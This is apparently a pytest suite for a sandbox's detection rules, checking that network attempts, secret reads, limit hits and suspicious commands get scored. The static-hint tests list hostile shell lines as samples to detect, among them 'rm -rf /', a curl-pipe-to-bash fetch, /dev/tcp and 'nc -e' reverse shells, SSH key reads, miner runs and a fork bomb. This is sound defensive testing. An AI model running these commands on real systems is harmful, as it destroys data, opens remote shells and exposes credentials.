"""Each rule: what it finds, what it leaves alone, and that docs, ids and tests agree."""

from __future__ import annotations

import re
import sys
from collections import Counter
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from magicrune import rules
from magicrune.errors import RuleFailed
from magicrune.netrule import NetRule
from magicrune.observation import Ending, Event, EventKind, Observation, Usage
from magicrune.rules import RULES, Finding, Rule, apply_rules
from magicrune.rules.net_intent import read_argv
from magicrune.spec import ContainerSpec, FileInput, Limits, Mount

DOCS = Path(__file__).parents[2] / "docs" / "rules.md"

LIMITS = Limits(
    wall_ms=1000,
    cpu_ms=1000,
    memory_bytes=1 << 26,
    pids=16,
    output_bytes=1 << 16,
    tmp_bytes=1 << 20,
    files=100,
    open_files=64,
    artifact_bytes=1 << 16,
)
SPEC = ContainerSpec(
    run_id="r_" + "0" * 32,
    argv=("sh", "-c", "echo hello"),
    env=(),
    stdin=b"",
    files=(),
    cwd="/workspace",
    mounts=(Mount("/tmp"), Mount("/workspace"), Mount("/data", writable=False)),
    limits=LIMITS,
)


def seen(*acts: tuple[EventKind, Mapping[str, str | int]], **changes: object) -> Observation:
    """An observation of a quiet job that did `acts`."""
    events = tuple(Event(10 * n, kind, detail) for n, (kind, detail) in enumerate(acts))
    quiet = Observation(
        backend="fake",
        ending=Ending.EXITED,
        exit_code=0,
        signal=None,
        stdout=b"",
        stderr=b"",
        stdout_truncated=False,
        stderr_truncated=False,
        events=events,
        event_counts=Counter(event.kind for event in events),
        telemetry_complete=True,
        artifacts=(),
        artifacts_skipped=(),
        usage=Usage(5.0, 4.0, 1 << 20, 2, 0, 0, 0),
        enforcement=(),
        image_digest=None,
    )
    return replace(quiet, **changes)  # type: ignore[arg-type]


def found(rule: str, observation: Observation, spec: ContainerSpec = SPEC) -> list[Finding]:
    """The findings of one rule; the others must not fail either."""
    return [finding for finding in apply_rules(spec, observation) if finding.rule == rule]


def points(rule: str, observation: Observation, spec: ContainerSpec = SPEC) -> int:
    return sum(finding.points for finding in found(rule, observation, spec))


def command(text: str) -> ContainerSpec:
    return replace(SPEC, argv=("sh", "-c", text))


def curl(url: str, outcome: str = "missing") -> tuple[EventKind, dict[str, str | int]]:
    return (EventKind.EXEC, {"path": "curl", "argv": f"curl -s {url}", "outcome": outcome})


def cut_curl(argv: str) -> tuple[EventKind, dict[str, str | int]]:
    return (EventKind.EXEC, {"path": "curl", "argv": argv, "outcome": "missing", "cut": 1})


def connect(host: str, port: int) -> tuple[EventKind, dict[str, str | int]]:
    return (EventKind.CONNECT, {"host": host, "port": port, "outcome": "refused"})


def denied(op: str, path: str) -> tuple[EventKind, dict[str, str | int]]:
    return (EventKind.DENIED, {"op": op, "path": path})


def secret(path: str) -> tuple[EventKind, dict[str, str | int]]:
    return (EventKind.SENSITIVE, {"path": path, "op": "open"})


def limit(name: str) -> tuple[EventKind, dict[str, str | int]]:
    return (EventKind.LIMIT, {"limit": name})


# -- all of them ----------------------------------------------------------------------------


def test_rules_have_one_name_in_code_docs_and_tests() -> None:
    ids = [rule.id for rule in RULES]
    assert len(set(ids)) == len(ids) > 5
    anchors = re.findall(r"^## ([a-z-]+)$", DOCS.read_text(), re.MULTILINE)
    assert sorted(anchors) == sorted([*ids, "policy-violation"])
    tests = [name for name in dir(sys.modules[__name__]) if name.startswith("test_rule_")]
    for rule in ids:
        stem = "test_rule_" + rule.replace("-", "_")
        assert any(name.startswith(stem) for name in tests), f"{rule} has no {stem}..."


def test_a_quiet_job_has_no_findings() -> None:
    assert apply_rules(SPEC, seen()) == ()
    assert apply_rules(SPEC, seen(exit_code=1, stderr=b"no such file")) == ()
    ordinary = seen(
        (EventKind.EXEC, {"path": "/bin/ls", "argv": "ls -l", "outcome": "ok"}),
        (EventKind.OPEN_WRITE, {"path": "/tmp/x"}),
        (EventKind.REMOVE, {"path": "/tmp/x", "op": "unlink"}),
        (EventKind.SIGNAL, {"signal": 15, "target": 3}),
    )
    assert apply_rules(SPEC, ordinary) == ()


def test_a_rule_that_raises_gives_no_grade(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(_spec: ContainerSpec, _observation: Observation) -> list[Finding]:
        raise ZeroDivisionError("oops")

    monkeypatch.setattr(rules, "RULES", (*RULES, Rule("broken", fail)))
    with pytest.raises(RuleFailed, match=r"broken.*ZeroDivisionError"):
        apply_rules(SPEC, seen())


def test_an_event_without_its_detail_gives_no_grade() -> None:
    with pytest.raises(RuleFailed, match="secret-read"):
        apply_rules(SPEC, seen((EventKind.SENSITIVE, {})))
    with pytest.raises(RuleFailed, match="limit-hit"):
        apply_rules(SPEC, seen(limit("gravity")))


def test_evidence_is_fit_for_a_terminal_and_short() -> None:
    evil = "/root/.ssh/\x1b[2J\u202e\n" + "x" * 5000
    (finding,) = found("secret-read", seen(secret(evil)))
    assert finding.evidence.isprintable()
    assert len(finding.evidence) <= 240
    assert "sensitive at 0 ms" in finding.evidence


_details = st.fixed_dictionaries(
    {},
    optional={
        **{name: st.text(max_size=40) for name in ("host", "address", "argv", "path", "outcome")},
        "port": st.integers(),
    },
)


@given(
    st.lists(st.tuples(st.sampled_from([EventKind.EXEC, EventKind.CONNECT]), _details), max_size=8)
)
def test_rules_survive_whatever_a_job_names(acts: list[tuple[EventKind, dict[str, str]]]) -> None:
    for finding in apply_rules(SPEC, seen(*acts)):
        assert 0 <= finding.points <= 100
        assert finding.evidence.isprintable()


@given(st.lists(st.text(max_size=60), max_size=3), st.binary(max_size=300))
def test_hints_survive_whatever_a_request_says(words: list[str], content: bytes) -> None:
    spec = replace(SPEC, argv=("sh", "-c", *words), files=(FileInput("/tmp/f", content),))
    assert all(finding.hint for finding in apply_rules(spec, seen()))


# -- one by one -----------------------------------------------------------------------------


def test_rule_net_intent_of_a_missing_client() -> None:
    (finding,) = found("net-intent", seen(curl("https://example.com/x")))
    assert finding.points == 40
    assert "example.com" in finding.evidence
    assert "exec at 0 ms" in finding.evidence


def test_rule_net_intent_of_a_connection() -> None:
    (finding,) = found("net-intent", seen(connect("203.0.113.7", 443)))
    assert (finding.points, finding.evidence.startswith("connect at 0 ms")) == (40, True)
    by_address = seen((EventKind.CONNECT, {"address": "203.0.113.7", "port": 443}))
    assert points("net-intent", by_address) == 40
    assert points("net-intent", seen((EventKind.CONNECT, {}))) == 40


def test_rule_net_intent_leaves_granted_destinations_alone() -> None:
    spec = replace(SPEC, net=(NetRule.parse("example.com:443"), NetRule.parse("10.0.0.0/8")))
    acts = (curl("https://example.com"), connect("example.com", 443), connect("10.1.2.3", 80))
    assert points("net-intent", seen(*acts), spec) == 0
    assert points("net-intent", seen(*acts)) > 0
    assert points("net-intent", seen(connect("example.com", 80)), spec) == 40


def test_rule_net_intent_leaves_other_programs_and_loopback_alone() -> None:
    words = {"path": "/bin/echo", "argv": "echo curl https://example.com", "outcome": "ok"}
    assert found("net-intent", seen((EventKind.EXEC, words))) == []
    assert found("net-intent", seen(connect("127.0.0.1", 80), connect("localhost", 80))) == []


def test_rule_net_intent_of_a_name_that_nobody_answered() -> None:
    def asked(address: str, port: int, op: str = "connect") -> tuple[EventKind, dict[str, object]]:
        return (EventKind.MISC, {"op": op, "address": address, "port": port})

    (finding,) = found("net-intent", seen(asked("127.0.0.1", 53), asked("::1", 53, "send")))
    assert finding.points == 40
    assert "a name" in finding.evidence
    (instead,) = found("net-intent", seen(asked("127.0.0.1", 53), curl("https://example.com")))
    assert "example.com" in instead.evidence
    fine = seen(asked("127.0.0.1", 80), asked("127.0.0.53", 53), asked("127.0.0.1", 53, "bind"))
    assert found("net-intent", fine) == []


def test_rule_net_intent_counts_destinations_not_attempts() -> None:
    again = seen(curl("https://example.com"), curl("https://example.com"), curl("example.com"))
    assert points("net-intent", again) in (40, 50)
    scan = seen(*(connect("203.0.113.7", port) for port in range(1, 60)))
    assert points("net-intent", scan) == 70
    assert len(found("net-intent", scan)) == 21


def test_rule_net_intent_reads_quoted_and_cut_arguments() -> None:
    def event(argv: str) -> Event:
        return Event(0, EventKind.EXEC, {"argv": argv})

    assert read_argv(event("nc 'a b' 1")) == ("nc", "a b", "1")
    assert read_argv(event("nc 'a b")) == ("nc", "'a", "b")
    assert read_argv(event("")) == ()


def test_rule_net_intent_counts_what_a_client_could_hide() -> None:
    spec = replace(SPEC, net=(NetRule.parse("example.com"),))
    assert points("net-intent", seen(cut_curl("curl -H " + "a" * 4000)), spec) == 40
    assert points("net-intent", seen(cut_curl("curl https://example.com -H aaa")), spec) == 40
    assert points("net-intent", seen(curl("https://example.com -H aaa")), spec) == 0
    assert points("net-intent", seen(cut_curl("echo " + "a" * 4000)), spec) == 0


def test_rule_secret_read() -> None:
    one = seen(secret("/root/.ssh/id_rsa"), secret("/root/.ssh/id_rsa"))
    assert points("secret-read", one) == 30
    many = seen(*(secret(f"/home/u{n}/.ssh/id_rsa") for n in range(9)))
    assert points("secret-read", many) == 60


def test_rule_limit_hit_tells_the_limit_once() -> None:
    (finding,) = found("limit-hit", seen(limit("wall"), ending=Ending.TIMEOUT, exit_code=None))
    assert finding.points == 25
    assert "1000 ms" in finding.evidence
    (finding,) = found("limit-hit", seen(ending=Ending.OOM))
    assert "memory" not in finding.evidence
    assert "ending oom" in finding.evidence
    assert points("limit-hit", seen(limit("open_files"), ending=Ending.FILE_LIMIT)) == 10


@pytest.mark.parametrize(
    "ending", [e for e in Ending if e.value.endswith("limit") or e in (Ending.TIMEOUT, Ending.OOM)]
)
def test_rule_limit_hit_knows_every_ending(ending: Ending) -> None:
    assert points("limit-hit", seen(ending=ending)) == 25


def test_rule_limit_hit_is_capped() -> None:
    names = ["memory", "pids", "disk", "files", "open_files", "cpu", "wall", "output"]
    assert points("limit-hit", seen(*map(limit, names))) == 60


def test_rule_denied_act_grows_and_is_capped() -> None:
    assert points("denied-act", seen(denied("open", "/etc/shadow"))) == 10
    twice = seen(denied("open", "/etc/shadow"), denied("open", "/etc/shadow"))
    assert points("denied-act", twice) == 10
    many = seen(*(denied("open", f"/proc/{n}/mem") for n in range(50)))
    assert points("denied-act", many) == 40
    assert points("write-outside", many) == 0


def test_rule_denied_act_covers_writes_that_the_job_forbade_itself() -> None:
    own = seen(denied("open_write", "/tmp/read-only-file"))
    assert (points("denied-act", own), points("write-outside", own)) == (10, 0)


def test_rule_write_outside() -> None:
    attempt = seen(denied("open_write", "/etc/passwd"))
    assert (points("write-outside", attempt), points("denied-act", attempt)) == (25, 0)
    assert points("write-outside", seen(denied("mkdir", "/tmpx"))) == 25
    assert points("write-outside", seen(denied("unlink", "/data/given"))) == 25
    assert points("write-outside", seen(denied("create", "/tmp/../etc/x"))) == 25
    many = seen(*(denied("create", f"/usr/bin/{n}") for n in range(50)))
    assert points("write-outside", many) == 45


def test_rule_fork_burst_by_processes() -> None:
    usage = Usage(5.0, 4.0, None, 999, None, None, 0)
    assert points("fork-burst", seen(usage=usage)) == 0
    assert points("fork-burst", seen(usage=replace(usage, processes=1000))) == 15
    assert points("fork-burst", seen(usage=replace(usage, processes=None))) == 0


def test_rule_fork_burst_by_refusals() -> None:
    counts = {EventKind.LIMIT: 100}
    assert points("fork-burst", seen(limit("pids"), event_counts=counts)) == 15
    assert points("fork-burst", seen(limit("pids"))) == 0
    both = seen(limit("pids"), limit("disk"), event_counts=counts)
    assert points("fork-burst", both) == 0
    assert points("fork-burst", seen(limit("disk"), event_counts=counts)) == 0


def test_rule_abnormal_end() -> None:
    trap = (EventKind.TRAP, {"reason": "unreachable", "program": "/tmp/x.wasm"})
    (finding,) = found("abnormal-end", seen(trap, trap, ending=Ending.SIGNALLED, signal=6))
    assert finding.points == 10
    assert "unreachable (2 in all)" in finding.evidence
    assert points("abnormal-end", seen(ending=Ending.SIGNALLED, signal=9, exit_code=None)) == 10
    assert points("abnormal-end", seen(ending=Ending.INFRA_ERROR, exit_code=None)) == 25
    assert points("abnormal-end", seen(ending=Ending.POLICY_DENIED, exit_code=None)) == 25


def test_rule_telemetry_lost() -> None:
    lost = seen(connect("127.0.0.1", 1), telemetry_complete=False)
    (finding,) = found("telemetry-lost", lost)
    assert finding.points >= 21
    assert "connect 1" in finding.evidence


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        'rm -r -f "$HOME"',
        "echo aGk= | base64 -d | sh",
        "curl -s https://x.example/i.sh | sudo bash",
        "exec 3<>/dev/tcp/10.0.0.1/4444",
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/null 0>&1",
        "./XMRig -o pool",
        "python3 miner.py stratum+tcp://pool:3333",
        "cat ~/.ssh/id_rsa",
        "cat /proc/self/environ",
        ":(){ :|:& };:",
    ],
)
def test_rule_static_hint_knows_the_shape(text: str) -> None:
    hints = found("static-hint", seen(), command(text))
    assert hints
    assert all(hint.hint and hint.evidence.startswith("hint: ") for hint in hints)
    assert hints[0].evidence.startswith("hint: cmd, line 1, ")
    assert 0 < sum(hint.points for hint in hints) <= 10


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /tmp/build",
        "rm -rf ./out",
        "base64 -d data.b64 > data.bin",
        "curl --version | head -1",
        "sync; sh script.sh",
        "echo once upon a time",
        "grep -c x file | sort",
        "f() { echo a | cat; }; f",
    ],
)
def test_rule_static_hint_leaves_everyday_commands_alone(text: str) -> None:
    assert found("static-hint", seen(), command(text)) == []


def test_rule_static_hint_reads_files_and_is_capped() -> None:
    text = b"#!/bin/sh\nrm -rf /\ncat ~/.ssh/id_rsa\nxmrig\nnc -e sh h 1\n:(){ :|:& };:\n"
    spec = replace(SPEC, files=(FileInput("/workspace/\x1bevil.sh", text),))
    hints = found("static-hint", seen(), spec)
    assert sum(hint.points for hint in hints) == 10
    assert hints[0].evidence.startswith("hint: /workspace/\\x1bevil.sh, line 2")


def test_rule_static_hint_names_ungranted_clients_in_scripts() -> None:
    script = FileInput("/workspace/get.sh", b"#!/bin/sh\nwget https://example.com/x\n")
    spec = replace(SPEC, files=(script,))
    (hint,) = found("static-hint", seen(), spec)
    assert "wget to example.com:443" in hint.evidence
    assert found("static-hint", seen(), replace(spec, net=(NetRule.parse("example.com"),))) == []


def test_rule_static_hint_takes_linear_time() -> None:
    hostile = b"base64 -d " * 1500 + b"nc " * 5000 + b"rm - - - " * 1500 + b":(" * 7000
    spec = replace(SPEC, files=tuple(FileInput(f"/tmp/{n}", hostile) for n in range(9)))
    assert sum(hint.points for hint in found("static-hint", seen(), spec)) <= 10


GRANTED = replace(SPEC, net=(NetRule.parse("api.example.com:443"), NetRule.parse("0.0.0.0/0")))


def refused(**detail: str | int) -> tuple[EventKind, Mapping[str, str | int]]:
    """A refusal as the broker tells it."""
    told = {"op": "connect", "type": "stream", "outcome": "refused", "reason": "private (RFC 1918)"}
    return EventKind.CONNECT, told | detail


def test_rule_net_intent_of_a_granted_name_that_led_astray() -> None:
    act = refused(host="api.example.com", address="10.0.0.5", port=443, missing="10.0.0.5:443")
    (finding,) = found("net-intent", seen(act), GRANTED)
    assert finding.points == 40
    assert 'missing in net.allow: "10.0.0.5:443"' in finding.evidence
    assert "private" in finding.evidence
    failed = refused(host="api.example.com", address="1.1.1.1", port=443, outcome="failed")
    assert found("net-intent", seen(failed), GRANTED) == []


def test_rule_net_intent_counts_a_name_and_its_client_once() -> None:
    name = refused(op="resolve", host="evil.example", type="A", missing="evil.example")
    assert points("net-intent", seen(name), GRANTED) == 40
    assert points("net-intent", seen(name, curl("https://evil.example/x")), GRANTED) == 40
    other = refused(op="resolve", host="worse.example", type="A", missing="worse.example")
    assert points("net-intent", seen(name, other), GRANTED) == 50


def test_rule_net_intent_knows_special_ranges() -> None:
    assert points("net-intent", seen(connect("8.8.8.8", 80)), GRANTED) == 0
    assert points("net-intent", seen(connect("169.254.169.254", 80)), GRANTED) == 40
    local = replace(SPEC, host_loopback=(NetRule.parse("127.0.0.1:80"),))
    assert points("net-intent", seen(connect("127.0.0.1", 80)), local) == 0


def test_rule_net_intent_leaves_the_ordering_of_addresses_alone() -> None:
    for address in ("198.18.0.1", "fdff:6d61:6769:63::1"):
        wish = {"address": address, "port": 443, "outcome": "refused", "op": "connect"}
        assert points("net-intent", seen((EventKind.CONNECT, wish | {"type": "dgram"}))) == 0
        assert points("net-intent", seen((EventKind.CONNECT, wish | {"type": "stream"}))) == 40
    plain = {"address": "9.9.9.9", "port": 53, "outcome": "refused", "type": "dgram"}
    assert points("net-intent", seen((EventKind.CONNECT, plain))) == 40


@pytest.mark.parametrize(
    "limit", ["connections", "sent_bytes", "received_bytes", "names", "queries"]
)
def test_rule_limit_hit_of_the_network(limit: str) -> None:
    event = (EventKind.LIMIT, {"limit": f"net_{limit}"})
    (finding,) = found("limit-hit", seen(event, ending=Ending.NET_LIMIT))
    assert finding.points == 25
    assert str(getattr(SPEC.net_limits, limit)) in finding.evidence


def test_rule_limit_hit_of_open_connections_is_small() -> None:
    event = (EventKind.LIMIT, {"limit": "net_open_connections"})
    assert points("limit-hit", seen(event)) == 10
    assert points("limit-hit", seen(event, ending=Ending.NET_LIMIT)) == 35
    assert points("limit-hit", seen(ending=Ending.NET_LIMIT)) == 25
